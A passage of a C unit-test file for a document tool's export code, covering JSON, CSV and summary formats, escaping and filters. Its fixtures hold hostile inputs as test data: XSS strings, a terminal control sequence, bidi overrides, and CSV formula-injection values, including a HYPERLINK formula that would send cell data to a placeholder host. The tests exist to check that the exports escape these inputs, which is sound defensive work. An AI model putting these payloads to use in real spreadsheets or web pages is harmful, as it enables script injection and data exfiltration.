/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-export.c — the export formats: JSON (the "dossier-export" contract,
 * parsed back by Python's json module: text[start:end] == quote on
 * non-ASCII text), CSV (RFC 4180, parsed back by Python's csv module),
 * Markdown and text summaries, HTML escaping, filters, and the atomic
 * file write.
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <glib/gstdio.h>
#include <gio/gunixsocketaddress.h>
#include <libxml/HTMLparser.h>
#include <libxml/parser.h>
#include <dossier/dossier.h>

#include "dossier-export-summary-private.h"
#include "dossier-project-private.h"
#include "exchange-fixture.h"
#include "test-util.h"

/* ---- Fixture ----------------------------------------------------------- */

/* Invented text, NFC, full of what breaks naive offset code: accents,
 * curly quotes, an emoji outside the BMP, CJK, a tab. */
static const char doc1_text[] =
  "Café owners on the Quai Mérové\n\n"
  "The council’s plan — “a bridge for people” — was approved on Tuesday. "
  "Amélie Žáková, who runs the bakery 🥐 by the quay, said the deal was fair.\n\n"
  "Critics, led by 王小明 of the Harbour Trust, warned that costs would rise, "
  "and that \"nobody\" had asked the ferry crews.\n\n"
  "A quote with <script>alert('x')</script> & ampersands, commas, and\ttabs.";

static const char doc2_text[] =
  "Second report\n\n"
  "Ferry crews say the tram will take their passengers; the mayor disagrees.\n\n"
  "Émile Ørsted: « Nous verrons. » 😀 End.";

typedef struct
{
  char           *dir;
  char           *path;
  DossierProject *project;
  gint64          doc1;
  gint64          doc2;
  gint64          tag_people;     /* top level */
  gint64          tag_owners;     /* People/Business owners */
  gint64          tag_critics;    /* People/Critics */
  gint64          tag_costs;      /* top level */
  gint64          tag_unused;
  gint64          h_cafe;         /* doc1, Business owners */
  gint64          h_amelie;       /* doc1, Business owners + Costs, memo */
  gint64          h_critics;      /* doc1, Critics + Costs */
  gint64          h_script;       /* doc1, Costs, memo with <b> */
  gint64          h_ferry;        /* doc2, Critics */
  gint64          h_emile;        /* doc2, People */
} Fixture;

static gint64
add_document (DossierProject *project,
              const char     *title,
              const char     *author,
              const char     *outlet,
              const char     *text)
{
  return exchange_add_document (project, title, text, author, outlet,
                                "https://news.example/a?x=1&y=<2>", "2025-03-04");
}

static gint64
add_colored_tag (DossierProject *project,
                 const char     *name,
                 gint64          parent,
                 const char     *color)
{
  g_autoptr(GError) error = NULL;
  gint64 id = dossier_project_add_tag (project, name, parent, color, "", &error);

  g_assert_no_error (error);
  g_assert_cmpint (id, >, 0);
  return id;
}

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  f->project = test_create_project ("export", "Harbour “Test” <Project> & Co", &f->dir, &f->path);
  dossier_project_set_author (f->project, "Zoë Tester");

  f->doc1 = add_document (f->project, "Café owners on the Quai Mérové", "Jeanne Ør",
                          "The Quay <Gazette>", doc1_text);
  f->doc2 = add_document (f->project, "Second report, \"quoted\"", NULL, NULL, doc2_text);

  f->tag_people = add_colored_tag (f->project, "People", 0, "#3584e4");
  f->tag_owners = add_colored_tag (f->project, "Business owners", f->tag_people, "#e66100");
  f->tag_critics = add_colored_tag (f->project, "Critics, vocal", f->tag_people, "#9141ac");
  f->tag_costs = add_colored_tag (f->project, "Costs", 0, "#f5c211");
  f->tag_unused = add_colored_tag (f->project, "Unused", 0, NULL);

  {
    gint64 owners[] = { f->tag_owners };
    gint64 owners_costs[] = { f->tag_owners, f->tag_costs };
    gint64 critics_costs[] = { f->tag_critics, f->tag_costs };
    gint64 costs[] = { f->tag_costs };
    gint64 critics[] = { f->tag_critics };
    gint64 people[] = { f->tag_people };

    f->h_cafe = exchange_add_highlight (f->project, f->doc1, doc1_text, "Café owners", owners, 1, NULL);
    f->h_amelie = exchange_add_highlight (f->project, f->doc1, doc1_text,
                                          "Amélie Žáková, who runs the bakery 🥐 by the quay",
                                          owners_costs, 2, "Line one,\nline \"two\"\ttab");
    f->h_critics = exchange_add_highlight (f->project, f->doc1, doc1_text,
                                           "Critics, led by 王小明 of the Harbour Trust, warned that costs would rise, "
                                           "and that \"nobody\" had asked the ferry crews.\n\nA quote",
                                           critics_costs, 2, "");
    f->h_script = exchange_add_highlight (f->project, f->doc1, doc1_text,
                                          "<script>alert('x')</script> & ampersands, commas, and\ttabs.",
                                          costs, 1, "<b>bold</b> & <img src=x onerror=alert(1)>");
    f->h_ferry = exchange_add_highlight (f->project, f->doc2, doc2_text, "Ferry crews", critics, 1, "crews");
    f->h_emile = exchange_add_highlight (f->project, f->doc2, doc2_text, "« Nous verrons. » 😀", people, 1, NULL);
  }

  /* A control in a memo, for the exports to escape: Dossier drops those
   * it is given now, but a project made before, or by another program,
   * holds them. */
  {
    g_autofree char *sql = g_strdup_printf ("UPDATE highlights SET memo = memo || char (1) "
                                            "WHERE id = %" G_GINT64_FORMAT, f->h_amelie);

    dossier_project_close (f->project);
    g_clear_object (&f->project);
    test_sql_exec (f->path, sql);
    f->project = dossier_project_open (f->path, DOSSIER_OPEN_READ_WRITE, &error);
    g_assert_no_error (error);
    dossier_project_set_author (f->project, "Zoë Tester");
  }
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  test_finish_project (&f->project, &f->dir, &f->path);
}

static char *
export_string (DossierProject      *project,
               DossierExportFormat  format,
               gint64               document_id,
               gint64               tag_id,
               GError             **error)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  DossierExportFilter filter = { document_id, tag_id };

  if (!dossier_export_to_stream (project, format, &filter, NULL, out, NULL, error))
    return NULL;
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, NULL));
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

static char *
export_ok (Fixture             *f,
           DossierExportFormat  format,
           gint64               document_id,
           gint64               tag_id)
{
  g_autoptr(GError) error = NULL;
  char *out = export_string (f->project, format, document_id, tag_id, &error);

  g_assert_no_error (error);
  g_assert_nonnull (out);
  g_assert_true (g_utf8_validate (out, -1, NULL));
  return out;
}

/* Runs a Python check over @data (given on stdin); returns its stdout.
 * Python is a dependency of the tests (tools/install-deps.sh): without it
 * the test fails, it does not pass unchecked. */
static char *
run_python (const char  *script,
            const char  *data,
            const char  *arg)
{
  g_autofree char *python = g_find_program_in_path ("python3");
  g_autoptr(GError) error = NULL;
  g_autofree char *input_path = NULL;
  char *out = NULL;
  g_autofree char *err = NULL;
  int status;
  int fd;

  if (python == NULL)
    g_error ("python3 is not installed: the exports cannot be checked "
             "(tools/install-deps.sh installs it)");

  fd = g_file_open_tmp ("dossier-export-XXXXXX", &input_path, &error);
  g_assert_no_error (error);
  close (fd);
  g_file_set_contents (input_path, data, -1, &error);
  g_assert_no_error (error);

  {
    const char *argv[] = { python, "-c", script, input_path, arg, NULL };

    g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL,
                  &out, &err, &status, &error);
  }
  g_unlink (input_path);
  g_assert_no_error (error);
  if (!g_spawn_check_wait_status (status, NULL))
    g_error ("python check failed: %s\n%s", err, out);
  return out;
}

/* ---- Escaping ---------------------------------------------------------- */

static char *
json_escape (const char *s,
             gssize      len)
{
  GString *out = g_string_new (NULL);

  dossier_export_append_json_string (out, s, len);
  return g_string_free (out, FALSE);
}

static void
test_json_escape (void)
{
  char *s;

  s = json_escape ("plain ASCII", -1);
  g_assert_cmpstr (s, ==, "plain ASCII");
  g_free (s);

  s = json_escape ("\"quoted\" and \\back\\", -1);
  g_assert_cmpstr (s, ==, "\\\"quoted\\\" and \\\\back\\\\");
  g_free (s);

  s = json_escape ("a\nb\tc\rd\be\ff\x01g\x1fh\x7f", -1);
  g_assert_cmpstr (s, ==, "a\\nb\\tc\\rd\\be\\ff\\u0001g\\u001fh\\u007f");
  g_free (s);

  /* C1 controls (U+009B is a terminal's CSI) and the bidi overrides,
   * embeddings and isolates are escaped, not written raw: a person who
   * reads the file is not acted on or misled; the marks and right-to-left
   * text are text. */
  s = json_escape ("x\xc2\x9b[2J\xc2\x85\u202eevil\u202a\u2066\u2069 \u200f\u200e\u061c "
                   "\u05e2\u05d1\u05e8\u05d9\u05ea \u0639\u0631\u0628\u064a", -1);
  g_assert_cmpstr (s, ==, "x\\u009b[2J\\u0085\\u202eevil\\u202a\\u2066\\u2069 \u200f\u200e\u061c "
                          "\u05e2\u05d1\u05e8\u05d9\u05ea \u0639\u0631\u0628\u064a");
  g_free (s);

  /* A NUL inside a counted string is escaped, not a terminator. */
  s = json_escape ("a\0b", 3);
  g_assert_cmpstr (s, ==, "a\\u0000b");
  g_free (s);

  /* UTF-8 passes through; U+2028/U+2029 are escaped for JavaScript. */
  s = json_escape ("é 王 😀 \xe2\x80\xa8|\xe2\x80\xa9", -1);
  g_assert_cmpstr (s, ==, "é 王 😀 \\u2028|\\u2029");
  g_free (s);

  /* Invalid UTF-8 (a lone continuation byte, a truncated sequence, an
   * overlong form) comes out as U+FFFD: the output is always valid. */
  s = json_escape ("x\x80y\xc3", -1);
  g_assert_cmpstr (s, ==, "x\xef\xbf\xbdy\xef\xbf\xbd");
  g_assert_true (g_utf8_validate (s, -1, NULL));
  g_free (s);
  s = json_escape ("\xc0\xaf", -1);
  g_assert_true (g_utf8_validate (s, -1, NULL));
  g_assert_null (strchr (s, '/'));
  g_free (s);
}

static char *
csv_field (const char *s)
{
  GString *out = g_string_new (NULL);

  dossier_export_append_csv_field (out, s, -1);
  return g_string_free (out, FALSE);
}

static void
test_csv_field (void)
{
  const struct { const char *in, *out; } cases[] = {
    { "plain", "plain" },
    { "", "" },
    { "café 王", "café 王" },
    { "a,b", "\"a,b\"" },
    { "say \"hi\"", "\"say \"\"hi\"\"\"" },
    { "\"", "\"\"\"\"" },
    { "line\nbreak", "\"line\nbreak\"" },
    { "cr\rhere", "\"cr\rhere\"" },
    { "tab\tonly", "tab\tonly" },
    { " spaced ", " spaced " },
    /* What a spreadsheet would run as a formula: quoted, with an
     * apostrophe in front (OWASP), quotes still doubled. */
    { "=1+1", "\"'=1+1\"" },
    { "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
      "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"" },
    { "+1 555 0100", "\"'+1 555 0100\"" },
    { "-5 °C overnight", "\"'-5 °C overnight\"" },
    { "-", "\"'-\"" },
    { "@SUM(A1:A9)", "\"'@SUM(A1:A9)\"" },
    { "\tcmd", "\"'\tcmd\"" },
    { "\r=cmd", "\"'\r=cmd\"" },
    /* Only the first character counts. */
    { "a=1", "a=1" },
    { "5-3", "5-3" },
    { " =1", " =1" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *s = csv_field (cases[i].in);

      g_assert_cmpstr (s, ==, cases[i].out);
    }
}

static void
test_format_names (void)
{
  DossierExportFormat format;

  g_assert_true (dossier_export_format_from_string ("json", &format));
  g_assert_cmpint (format, ==, DOSSIER_EXPORT_JSON);
  g_assert_true (dossier_export_format_from_string ("markdown", &format));
  g_assert_cmpint (format, ==, DOSSIER_EXPORT_MARKDOWN);
  g_assert_true (dossier_export_format_from_string ("html", &format));
  g_assert_cmpint (format, ==, DOSSIER_EXPORT_HTML);
  g_assert_true (dossier_export_format_from_string ("csv", &format));
  g_assert_cmpint (format, ==, DOSSIER_EXPORT_CSV);
  g_assert_true (dossier_export_format_from_string ("text", &format));
  g_assert_cmpint (format, ==, DOSSIER_EXPORT_TEXT);
  g_assert_false (dossier_export_format_from_string ("pdf", &format));
  g_assert_false (dossier_export_format_from_string ("", &format));
  g_assert_false (dossier_export_format_from_string (NULL, &format));

  g_assert_cmpstr (dossier_export_format_to_string (DOSSIER_EXPORT_MARKDOWN), ==, "markdown");
  g_assert_cmpstr (dossier_export_format_extension (DOSSIER_EXPORT_MARKDOWN), ==, "md");
  g_assert_cmpstr (dossier_export_format_extension (DOSSIER_EXPORT_TEXT), ==, "txt");
  g_assert_cmpstr (dossier_export_format_extension (DOSSIER_EXPORT_JSON), ==, "json");
}

/* ---- JSON -------------------------------------------------------------- */

/* Checks the contract: keys, types, text[start:end] == quote, tag ids that
 * exist, parents, colours; prints counts for the C side to compare. */
static const char json_check[] =
  "import json, re, sys\n"
  "d = json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "assert d['format'] == 'dossier-export', d['format']\n"
  "assert d['version'] == 1\n"
  "assert set(d['project']) >= {'title', 'uuid'}\n"
  "for k in ('documents', 'tags', 'highlights', 'stakeholders', 'arguments', 'briefings'):\n"
  "    assert isinstance(d[k], list), k\n"
  "docs = {x['id']: x for x in d['documents']}\n"
  "for x in d['documents']:\n"
  "    for k in ('id', 'uuid', 'title', 'author', 'outlet', 'source', 'published', 'text', 'blocks'):\n"
  "        assert k in x, k\n"
  "    for b in x['blocks']:\n"
  "        assert b['kind'] in ('title', 'heading', 'paragraph', 'list-item', 'quote', 'preformatted')\n"
  "        assert 0 <= b['start'] <= b['end'] <= len(x['text']) and isinstance(b['level'], int)\n"
  "tags = {t['id']: t for t in d['tags']}\n"
  "for t in d['tags']:\n"
  "    assert set(t) >= {'id', 'uuid', 'name', 'parent', 'color', 'description'}\n"
  "    assert t['parent'] is None or t['parent'] in tags, t\n"
  "    assert re.fullmatch('#[0-9a-f]{6}', t['color']), t['color']\n"
  "for h in d['highlights']:\n"
  "    for k in ('id', 'uuid', 'document', 'start', 'end', 'quote', 'tags', 'memo', 'author', 'created'):\n"
  "        assert k in h, k\n"
  "    text = docs[h['document']]['text']\n"
  "    assert text[h['start']:h['end']] == h['quote'], (h, text[h['start']:h['end']])\n"
  "    assert h['tags'] and all(t in tags for t in h['tags'])\n"
  "    assert re.match(r'\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d', h['created']), h['created']\n"
  "print(len(d['documents']), len(d['tags']), len(d['highlights']),\n"
  "      ' '.join(str(h['id']) for h in d['highlights']))\n";

static void
test_json_contract (Fixture       *f,
                    gconstpointer  data)
{
  g_autofree char *json = export_ok (f, DOSSIER_EXPORT_JSON, 0, 0);
  g_autofree char *counts = NULL;
  g_autofree char *expected = NULL;

  counts = run_python (json_check, json, NULL);

  expected = g_strdup_printf ("2 5 6 %" G_GINT64_FORMAT " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT
                              " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT "\n",
                              f->h_cafe, f->h_amelie, f->h_critics, f->h_script,
                              f->h_ferry, f->h_emile);
  g_assert_cmpstr (counts, ==, expected);

  /* Field values, escaped as JSON requires. */
  g_assert_nonnull (strstr (json, "\"format\": \"dossier-export\""));
  g_assert_nonnull (strstr (json, "\"title\": \"Harbour “Test” <Project> & Co\""));
  g_assert_nonnull (strstr (json, "\"memo\": \"Line one,\\nline \\\"two\\\"\\ttab\\u0001\""));
  g_assert_nonnull (strstr (json, "\"author\": \"Zoë Tester\""));
  g_assert_nonnull (strstr (json, "\"parent\": null"));
  g_assert_nonnull (strstr (json, "\"published\": \"2025-03-04\""));
  g_assert_nonnull (strstr (json, "\"stakeholders\": []"));
}

/* Per-highlight values, checked in Python against what the test made. */
static const char json_values[] =
  "import json, sys\n"
  "d = json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "tags = {t['id']: t for t in d['tags']}\n"
  "for h in d['highlights']:\n"
  "    print(h['id'], h['document'], h['start'], h['end'], ','.join(str(t) for t in h['tags']),\n"
  "          json.dumps(h['memo']), json.dumps(h['author']))\n"
  "for t in d['tags']:\n"
  "    print('tag', t['id'], t['parent'], t['name'], t['color'])\n";

static void
test_json_values (Fixture       *f,
                  gconstpointer  data)
{
  g_autofree char *json = export_ok (f, DOSSIER_EXPORT_JSON, 0, 0);
  g_autofree char *out = run_python (json_values, json, NULL);
  g_autofree char *line = NULL;
  gint64 start, end;

  text_range (doc1_text, "Amélie Žáková, who runs the bakery 🥐 by the quay", &start, &end);
  line = g_strdup_printf ("%" G_GINT64_FORMAT " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT
                          " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT ",%" G_GINT64_FORMAT
                          " \"Line one,\\nline \\\"two\\\"\\ttab\\u0001\" \"Zo\\u00eb Tester\"\n",
                          f->h_amelie, f->doc1, start, end, f->tag_owners, f->tag_costs);
  g_assert_nonnull (strstr (out, line));
  g_clear_pointer (&line, g_free);

  line = g_strdup_printf ("tag %" G_GINT64_FORMAT " %" G_GINT64_FORMAT " Critics, vocal #9141ac\n",
                          f->tag_critics, f->tag_people);
  g_assert_nonnull (strstr (out, line));
  g_clear_pointer (&line, g_free);
  line = g_strdup_printf ("tag %" G_GINT64_FORMAT " None People #3584e4\n", f->tag_people);
  g_assert_nonnull (strstr (out, line));
}

static const char json_ids[] =
  "import json, sys\n"
  "d = json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "print(' '.join(str(x['id']) for x in d['documents']), '|',\n"
  "      ' '.join(str(x['id']) for x in d['highlights']), '|', len(d['tags']))\n";

static void
test_json_filters (Fixture       *f,
                   gconstpointer  data)
{
  g_autofree char *by_doc = export_ok (f, DOSSIER_EXPORT_JSON, f->doc2, 0);
  g_autofree char *by_tag = export_ok (f, DOSSIER_EXPORT_JSON, 0, f->tag_critics);
  g_autofree char *by_parent = export_ok (f, DOSSIER_EXPORT_JSON, 0, f->tag_people);
  g_autofree char *both = export_ok (f, DOSSIER_EXPORT_JSON, f->doc1, f->tag_costs);
  g_autofree char *out = NULL;
  g_autofree char *expected = NULL;

  /* One document: only it and its highlights; the codebook is complete. */
  out = run_python (json_ids, by_doc, NULL);
  expected = g_strdup_printf ("%" G_GINT64_FORMAT " | %" G_GINT64_FORMAT " %" G_GINT64_FORMAT " | 5\n",
                              f->doc2, f->h_ferry, f->h_emile);
  g_assert_cmpstr (out, ==, expected);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&expected, g_free);

  /* One tag: only highlights carrying it. */
  out = run_python (json_ids, by_tag, NULL);
  expected = g_strdup_printf ("%" G_GINT64_FORMAT " %" G_GINT64_FORMAT " | %" G_GINT64_FORMAT
                              " %" G_GINT64_FORMAT " | 5\n",
                              f->doc1, f->doc2, f->h_critics, f->h_ferry);
  g_assert_cmpstr (out, ==, expected);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&expected, g_free);

  /* A parent tag: its own highlights and its descendants'. */
  out = run_python (json_ids, by_parent, NULL);
  expected = g_strdup_printf ("%" G_GINT64_FORMAT " %" G_GINT64_FORMAT " | %" G_GINT64_FORMAT
                              " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT " %" G_GINT64_FORMAT
                              " %" G_GINT64_FORMAT " | 5\n",
                              f->doc1, f->doc2, f->h_cafe, f->h_amelie, f->h_critics,
                              f->h_ferry, f->h_emile);
  g_assert_cmpstr (out, ==, expected);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&expected, g_free);

  /* Both filters at once. */
  out = run_python (json_ids, both, NULL);
  expected = g_strdup_printf ("%" G_GINT64_FORMAT " | %" G_GINT64_FORMAT " %" G_GINT64_FORMAT
                              " %" G_GINT64_FORMAT " | 5\n",
                              f->doc1, f->h_amelie, f->h_critics, f->h_script);
  g_assert_cmpstr (out, ==, expected);
}

static const char json_briefings[] =
  "import json, sys\n"
  "d = json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "print('; '.join(b['title'] + ' ' + ','.join(str(x) for x in b['documents']) for b in d['briefings']))\n";

static char *
cite (Fixture *f,
      gint64   highlight)
{
  g_autoptr(DossierHighlight) h = dossier_project_get_highlight (f->project, highlight, NULL);

  return g_strdup_printf ("[@%s]", dossier_highlight_get_uuid (h));
}

/* A filtered export lists only the notes that cite one of its highlights,
 * each with only the documents that are in the export: every reference
 * resolves, and a note about other passages is not handed on. */
static void
test_json_filters_briefings (Fixture       *f,
                             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *ferry = cite (f, f->h_ferry);
  g_autofree char *cafe = cite (f, f->h_cafe);
  g_autofree char *a = g_strconcat ("The ferry ", ferry, ".", NULL);
  g_autofree char *b = g_strconcat ("The café ", cafe, ".", NULL);
  g_autofree char *d = g_strconcat ("Written `", ferry, "`, not cited.", NULL);
  gint64 both[] = { f->doc1, f->doc2 };
  struct { gint64 doc; gint64 tag; const char *expected; } cases[] = {
    { 0, 0, NULL },
    { f->doc2, 0, NULL },
    { 0, f->tag_critics, NULL },
    { 0, f->tag_people, NULL },
    { 0, f->tag_costs, "\n" },
  };
  g_autofree char *all = g_strdup_printf ("A %" G_GINT64_FORMAT ",%" G_GINT64_FORMAT "; B %" G_GINT64_FORMAT
                                          "; C ; D %" G_GINT64_FORMAT "\n", f->doc1, f->doc2, f->doc1, f->doc2);
  g_autofree char *doc2 = g_strdup_printf ("A %" G_GINT64_FORMAT "\n", f->doc2);
  g_autofree char *critics = g_strdup_printf ("A %" G_GINT64_FORMAT ",%" G_GINT64_FORMAT "\n", f->doc1, f->doc2);
  g_autofree char *people = g_strdup_printf ("A %" G_GINT64_FORMAT ",%" G_GINT64_FORMAT "; B %" G_GINT64_FORMAT "\n",
                                             f->doc1, f->doc2, f->doc1);

  dossier_project_add_briefing (f->project, "A", both, 2, a, &error);
  g_assert_no_error (error);
  dossier_project_add_briefing (f->project, "B", &f->doc1, 1, b, &error);
  g_assert_no_error (error);
  dossier_project_add_briefing (f->project, "C", NULL, 0, "Nothing cited.", &error);
  g_assert_no_error (error);
  dossier_project_add_briefing (f->project, "D", &f->doc2, 1, d, &error);
  g_assert_no_error (error);
  cases[0].expected = all;
  cases[1].expected = doc2;
  cases[2].expected = critics;
  cases[3].expected = people;

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *json = export_ok (f, DOSSIER_EXPORT_JSON, cases[i].doc, cases[i].tag);
      g_autofree char *out = run_python (json_briefings, json, NULL);

      g_assert_cmpstr (out, ==, cases[i].expected);
    }
}

static void
test_filter_not_found (Fixture       *f,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  char *out;

  out = export_string (f->project, DOSSIER_EXPORT_JSON, 9999, 0, &error);
  g_assert_null (out);
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "9999"));
  g_clear_error (&error);

  out = export_string (f->project, DOSSIER_EXPORT_CSV, 0, 4242, &error);
  g_assert_null (out);
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_NOT_FOUND);
  g_clear_error (&error);

  out = export_string (f->project, (DossierExportFormat) 77, 0, 0, &error);
  g_assert_null (out);
  g_assert_error (error, DOSSIER_EXPORT_ERROR, DOSSIER_EXPORT_ERROR_FORMAT);
}

static void
test_json_empty_project (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("dossier-test-export-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "empty.dossier", NULL);
  g_autoptr(DossierProject) project = dossier_project_create (path, "Empty", &error);
  g_autofree char *json = NULL;
  g_autofree char *out = NULL;

  g_assert_no_error (error);
  json = export_string (project, DOSSIER_EXPORT_JSON, 0, 0, &error);
  g_assert_no_error (error);
  out = run_python (json_ids, json, NULL);
  if (out != NULL)
    g_assert_cmpstr (out, ==, " |  | 0\n");

  dossier_project_close (project);
  remove_tree (dir);
}

/* A highlight whose passage vanished from a newer version of the text is
 * kept (never dropped) but its offsets are stale: it goes to "orphans",
 * with its quote and context and without offsets, so that "highlights"
 * keeps text[start:end] == quote. */
static const char json_orphans[] =
  "import json, sys\n"
  "d = json.load(open(sys.argv[1], encoding='utf-8'))\n"
  "docs = {x['id']: x for x in d['documents']}\n"
  "for h in d['highlights']:\n"
  "    assert docs[h['document']]['text'][h['start']:h['end']] == h['quote']\n"
  "for o in d['orphans']:\n"
  "    assert 'start' not in o and 'end' not in o, o\n"
  "    print(o['id'], o['quote'], '|', o['prefix'].strip()[-6:], '|', o['memo'], o['tags'])\n"
  "print(len(d['highlights']))\n";

static void
test_orphans (Fixture       *f,
              gconstpointer  data)
{
  g_autoptr(DossierParsedDocument) doc = dossier_parsed_document_new ();
  g_autoptr(GArray) orphans = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *json = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *md = NULL;
  g_autofree char *out = NULL;
  g_autofree char *expected = NULL;
  /* The second report without "Ferry crews say": that highlight is lost
   * from the text; "« Nous verrons. » 😀" is still there. */
  const char *text = "Second report\n\nThe tram will take passengers; the mayor disagrees.\n\n"
                     "Émile Ørsted: « Nous verrons. » 😀 End.";

  doc->title = g_strdup ("Second report, revised");
  doc->format = g_strdup ("text");
  doc->text = g_strdup (text);
  doc->original = g_bytes_new (text, strlen (text));
  if (doc->blocks == NULL)
    doc->blocks = g_array_new (FALSE, FALSE, sizeof (DossierBlock));
  {
    DossierBlock block = { 0, g_utf8_strlen (text, -1), DOSSIER_BLOCK_PARAGRAPH, 0 };

    g_array_append_val (doc->blocks, block);
  }

  g_assert_true (dossier_project_replace_document_text (f->project, f->doc2, doc, &orphans, &error));
  g_assert_no_error (error);
  g_assert_nonnull (orphans);
  g_assert_cmpuint (orphans->len, ==, 1);
  g_assert_cmpint (g_array_index (orphans, gint64, 0), ==, f->h_ferry);

  json = export_ok (f, DOSSIER_EXPORT_JSON, 0, 0);
  out = run_python (json_orphans, json, NULL);
  if (out != NULL)
    {
      expected = g_strdup_printf ("%" G_GINT64_FORMAT " Ferry crews | report | crews [%" G_GINT64_FORMAT "]\n5\n",
                                  f->h_ferry, f->tag_critics);
      g_assert_cmpstr (out, ==, expected);
    }

  /* Summaries and CSV show passages of the text; an orphan is in none. */
  csv = export_ok (f, DOSSIER_EXPORT_CSV, 0, 0);
  g_assert_null (strstr (csv, "Ferry crews"));
  md = export_ok (f, DOSSIER_EXPORT_MARKDOWN, f->doc2, 0);
  g_assert_null (strstr (md, "Ferry crews"));
  g_assert_nonnull (strstr (md, "Nous verrons"));
}

/* ---- CSV --------------------------------------------------------------- */

static const char csv_check[] =
  "import csv, sys\n"
  "raw = open(sys.argv[1], 'rb').read()\n"
  "assert raw.count(b'\\r\\n') >= 1 and raw.endswith(b'\\r\\n')\n"
  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8', newline=''), strict=True))\n"
  "assert rows[0] == ['document', 'document_id', 'tag', 'start', 'end', 'quote', 'memo', 'author', 'created', 'tag_id'], rows[0]\n"
  "for r in rows[1:]:\n"
  "    assert len(r) == 10, r\n"
  "    print(r[1], r[2], r[3], r[4], repr(r[0]), repr(r[5]), repr(r[6]), r[7])\n";

static void
test_csv (Fixture       *f,
          gconstpointer  data)
{
  g_autofree char *csv = export_ok (f, DOSSIER_EXPORT_CSV, 0, 0);
  g_autofree char *out = NULL;
  g_auto(GStrv) lines = NULL;
  g_autofree char *expected = NULL;
  gint64 start, end;

  /* Every line ends with CRLF; a bare LF appears only inside quoted
   * fields (the memo "Line one,\nline …"). */
  g_assert_true (g_str_has_prefix (csv, "document,document_id,tag,start,end,quote,memo,author,created,tag_id\r\n"));
  /* The memo's U+0001 is not written: a cell holds no controls. */
  g_assert_nonnull (strstr (csv, "\"Line one,\nline \"\"two\"\"\ttab\""));

  out = run_python (csv_check, csv, NULL);

  /* One row per highlight–tag pair: 1 + 2 + 2 + 1 + 1 + 1. */
  lines = g_strsplit (out, "\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 8 + 1);

  /* The quote with commas, quotes and a paragraph break comes back intact. */
  text_range (doc1_text, "Critics, led by", &start, &end);
  expected = g_strdup_printf ("%" G_GINT64_FORMAT " People/Critics, vocal %" G_GINT64_FORMAT " ",
                              f->doc1, start);
  g_assert_nonnull (strstr (out, expected));
  g_assert_nonnull (strstr (out, "'Critics, led by 王小明 of the Harbour Trust, warned that costs would rise, "
                                 "and that \"nobody\" had asked the ferry crews.\\n\\nA quote'"));
  g_assert_nonnull (strstr (out, "'Second report, \"quoted\"'"));
  g_assert_nonnull (strstr (out, "People/Business owners"));
  g_assert_nonnull (strstr (out, "'Line one,\\nline \"two\"\\ttab'"));
  g_assert_nonnull (strstr (out, "Zoë Tester"));
}

static void
test_csv_tag_filter (Fixture       *f,
                     gconstpointer  data)
{
  g_autofree char *csv = export_ok (f, DOSSIER_EXPORT_CSV, 0, f->tag_costs);
  g_autofree char *out = run_python (csv_check, csv, NULL);
  g_auto(GStrv) lines = NULL;

  /* Only the Costs pairs, not the other tags of the same highlights. */
  lines = g_strsplit (out, "\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 3 + 1);
  for (guint i = 0; lines[i] != NULL && *lines[i]; i++)
    g_assert_nonnull (strstr (lines[i], " Costs "));
}

/* RFC 4180 read back without Python: rows of fields, CRLF between rows. */
static GPtrArray *
parse_csv (const char *csv)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  const char *p = csv;

  while (*p)
    {
      if (*p == '"')
        {
          for (p++; ; p++)
            {
              g_assert_true (*p != '\0');  /* an unterminated quoted field */
              if (*p == '"' && p[1] == '"')
                {
                  g_string_append_c (field, '"');
                  p++;
                }
              else if (*p == '"')
                break;
              else
                g_string_append_c (field, *p);
            }
          p++;
          g_assert_true (*p == ',' || *p == '\r' || *p == '\0');
        }
      while (*p && *p != ',' && *p != '\r')
        {
          g_assert_true (*p != '"' && *p != '\n');  /* bare quote or LF: not RFC 4180 */
          g_string_append_c (field, *p++);
        }
